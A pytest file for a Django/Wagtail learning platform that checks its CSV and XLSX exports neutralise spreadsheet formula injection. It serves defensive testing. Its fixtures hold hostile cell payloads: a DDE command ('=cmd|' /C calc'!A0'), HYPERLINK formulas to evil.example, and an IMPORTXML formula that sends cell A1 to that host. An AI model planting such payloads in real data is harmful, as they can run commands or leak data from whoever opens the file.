"""Every spreadsheet the platform produces is safe to open: no cell reads as a formula.

Names, titles, reasons and codes that start like a formula (= + - @ tab CR, DDE "|") are put
everywhere a person can type text; then every export route (CSV and XLSX, in the request and
from the background task) is downloaded and every cell of every row checked. A guard test makes
sure no export route of the admin escapes this list.
"""

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from certificates import services as certificate_services
from coordinators.models import StudyRoster
from courses.models import CreditType
from courses.permissions import ensure_review_workflow
from enrollments.models import CourseEvaluation, Enrollment, QuizAttempt
from enrollments.services import question_snapshot
from organizations import services as organization_services
from organizations.models import Organization
from reports import services as report_services
from reports.models import ReportExport
from tests.accounts.factories import UserFactory
from tests.courses import factories
from tests.factories import coordinator as make_coordinator
from tests.reports.test_scoping import issued

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

LEARNER_NAME = "@SUM(1+1)"
CERTIFICATE_NAME = '=HYPERLINK("http://evil.example","click")'
ORGANIZATION = "+1+1 Imaging"
EMAIL = "=evil@example.org"
COURSE_TITLE = "=cmd|' /C calc'!A0"
PROGRAM_TITLE = "-2+3 Program"
CREDIT_SHORT_NAME = "\t=1+1"
CREDIT_NAME = "|cmd credit"
REVOKE_REASON = '=HYPERLINK("http://evil.example","reason")\x1f'  # XLSX cannot hold \x1f
ADMIN_NAME = "\r=1+1 Admin\x07"
REDIRECT_LINK = "|calc"
SITE_IDENTIFIER = "=2+2"
STUDY_NAME = "@SUM(A1:A9) study"

REPORTS = "/admin/learning-reports/"
FOREGROUND = [
    (f"{REPORTS}course-completion/", {}),
    (f"{REPORTS}learner-progress/", {}),
    (f"{REPORTS}organization-roster/", {"organization": ORGANIZATION}),
    (f"{REPORTS}learner-transcript/", {"learner": EMAIL}),
    ("/admin/certificates/", {}),
    ("/admin/reports/site-history/", {}),
    ("/admin/reports/locked/", {}),
    ("/admin/reports/aging-pages/", {}),
    ("/admin/reports/workflow/", {}),
    ("/admin/reports/workflow_tasks/", {}),
    ("/admin/redirects/", {}),
    ("/admin/organizations/", {}),
    (f"{REPORTS}evaluations/", {}),
    (f"{REPORTS}evaluation-comments/", {}),
    (f"{REPORTS}question-statistics/", lambda world: {"quiz": world["quiz"].pk}),
]
BACKGROUND = {
    "course_completion": {},
    "learner_progress": {},
    "organization_roster": {"organization": ORGANIZATION},
    "learner_transcript": {"learner_email": EMAIL},
    "evaluation_summary": {},
    "evaluation_comments": {},
    "question_statistics": lambda world: {"quiz_id": world["quiz"].pk, "attempts": "all"},
}
COMMENT = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'
PROMPT = "+SUM(A1:A9) is which?"
OPTION = "@cmd option"


@pytest.fixture
def admin(django_user_model):
    return django_user_model.objects.create_superuser(
        "hostile.admin@example.org", "pw", full_name=ADMIN_NAME
    )


@pytest.fixture
def hostile_world(admin):
    """Formula-like text in every field a learner, an editor or an administrator can type."""
    program = factories.program("ctn", PROGRAM_TITLE)
    course = factories.course(program, "CTN-101", modules=1, title=COURSE_TITLE,
                              credits=(("HOSTILE", "1.0"),))  # fmt: skip
    other = factories.course(program, "CTN-201", modules=1, title=COURSE_TITLE + " 2")
    CreditType.objects.filter(code="HOSTILE").update(short_name=CREDIT_SHORT_NAME, name=CREDIT_NAME)
    learner = UserFactory(email=EMAIL, full_name=LEARNER_NAME, organization=ORGANIZATION,
                          certificate_name=CERTIFICATE_NAME)  # fmt: skip
    issued(learner, course)
    revoked = issued(learner, other)
    certificate_services.revoke_certificate(certificate=revoked, actor=admin, reason=REVOKE_REASON)
    # Page reports: a locked page and a page in moderation, both with hostile titles.
    Page.objects.filter(pk=other.pk).update(locked=True, locked_by=admin, locked_at=timezone.now())
    workflow = ensure_review_workflow(program)
    course.refresh_from_db()
    course.save_revision(user=admin)
    workflow.start(course, admin)
    Redirect.objects.create(old_path="/old-course", redirect_link=REDIRECT_LINK)
    # A site coordinator's study roster of a hostile organization.
    site = Organization.objects.create(name=ORGANIZATION, site_identifier=SITE_IDENTIFIER,
                                       city="-1+1", country="+44")  # fmt: skip
    organization_services.affiliate(user=learner, organization=site)
    coordinator = make_coordinator(site, email="coordinator@example.org",
                                  full_name=ADMIN_NAME)  # fmt: skip
    roster = StudyRoster.objects.create(organization=site, name=STUDY_NAME,
                                        on_date=timezone.localdate())  # fmt: skip
    roster.courses.set([course, other])
    enrollment = Enrollment.objects.get(user=learner, course=course)
    CourseEvaluation.objects.create(
        enrollment=enrollment, overall=2, relevance=3, objectives_met=True, free_of_bias=False,
        would_recommend=False, practice_change=COMMENT, comments=COMMENT,
    )  # fmt: skip
    quiz = factories.module(course, "Quiz", quiz_kind="knowledge_check", questions=[
        factories.block("question", {"prompt": PROMPT, "explanation": "<p>x</p>", "options": [
            {"text": OPTION, "correct": True}, {"text": "-1", "correct": False}]}),
    ])  # fmt: skip
    snapshot = question_snapshot(quiz)
    QuizAttempt.objects.create(
        enrollment=enrollment, module=quiz, number=1, questions=snapshot,
        answers={snapshot[0]["id"]: [0]}, score=100, passed=True,
    )  # fmt: skip
    return {"learner": learner, "coordinator": coordinator, "roster": roster, "quiz": quiz}


def content_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                cells.append(cell.value)
    return cells


def unsafe(cells) -> list:
    return [
        cell
        for cell in cells
        if isinstance(cell, str) and cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)
    ]


def neutralized(cells) -> list:
    return [c for c in cells if isinstance(c, str) and c.startswith("'") and c[1:2] in TRIGGERS]


def check(outputs: dict, name: str, cells: list) -> None:
    outputs[name] = {"unsafe": unsafe(cells), "hostile_seen": bool(neutralized(cells))}


def test_every_export_route_writes_every_hostile_cell_as_plain_text(client, admin, hostile_world):
    client.force_login(admin)
    outputs: dict = {}
    for url, params in FOREGROUND:
        params = params(hostile_world) if callable(params) else params
        for export_format in ("csv", "xlsx"):
            response = client.get(url, {**params, "export": export_format})
            assert response.status_code == 200, (url, export_format)
            data = content_of(response)
            cells = csv_cells(data) if export_format == "csv" else xlsx_cells(data)
            check(outputs, f"{url} {export_format}", cells)
    for report, params in BACKGROUND.items():
        params = params(hostile_world) if callable(params) else params
        for export_format in ("csv", "xlsx"):
            export = ReportExport.objects.create(
                user=admin, report=report, params=params, export_format=export_format
            )
            report_services.build_export(export_id=export.pk)
            export.refresh_from_db()
            assert export.status == ReportExport.Status.READY, export.error
            with export.file.open("rb") as handle:
                data = handle.read()
            cells = csv_cells(data) if export_format == "csv" else xlsx_cells(data)
            check(outputs, f"background {report} {export_format}", cells)
    client.force_login(hostile_world["learner"])
    transcript = client.get("/certificates/transcript/", {"format": "csv"})
    assert transcript.status_code == 200
    check(outputs, "learner transcript csv", csv_cells(content_of(transcript)))
    roster = hostile_world["roster"]
    client.force_login(hostile_world["coordinator"])
    study = client.get(f"/site/{roster.organization_id}/studies/{roster.pk}/csv/")
    assert study.status_code == 200
    check(outputs, "study roster csv", csv_cells(content_of(study)))

    assert {name: o["unsafe"] for name, o in outputs.items() if o["unsafe"]} == {}
    assert [name for name, o in outputs.items() if not o["hostile_seen"]] == []


def test_the_learners_transcript_csv_neutralizes_its_first_line(client, hostile_world):
    client.force_login(hostile_world["learner"])
    response = client.get("/certificates/transcript/", {"format": "csv"})
    first = next(csv.reader(io.StringIO(response.content.decode())))
    assert first == ["Learner", "'" + CERTIFICATE_NAME, "Email", "'" + EMAIL]


def _export_views(resolver: URLResolver, prefix: str = ""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _export_views(pattern, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            if (
                view_class
                and issubclass(view_class, SpreadsheetExportMixin)
                and (initkwargs.get("list_export") or view_class.list_export)
                and not initkwargs.get("results_only")
                and "<" not in str(pattern.pattern)
            ):
                yield "/" + prefix + str(pattern.pattern)


def test_the_walk_covers_every_export_route_of_the_admin():
    """A new report or listing with an export must be added to FOREGROUND above."""
    routes = set(_export_views(get_resolver()))
    assert routes - {url for url, _params in FOREGROUND} == set()
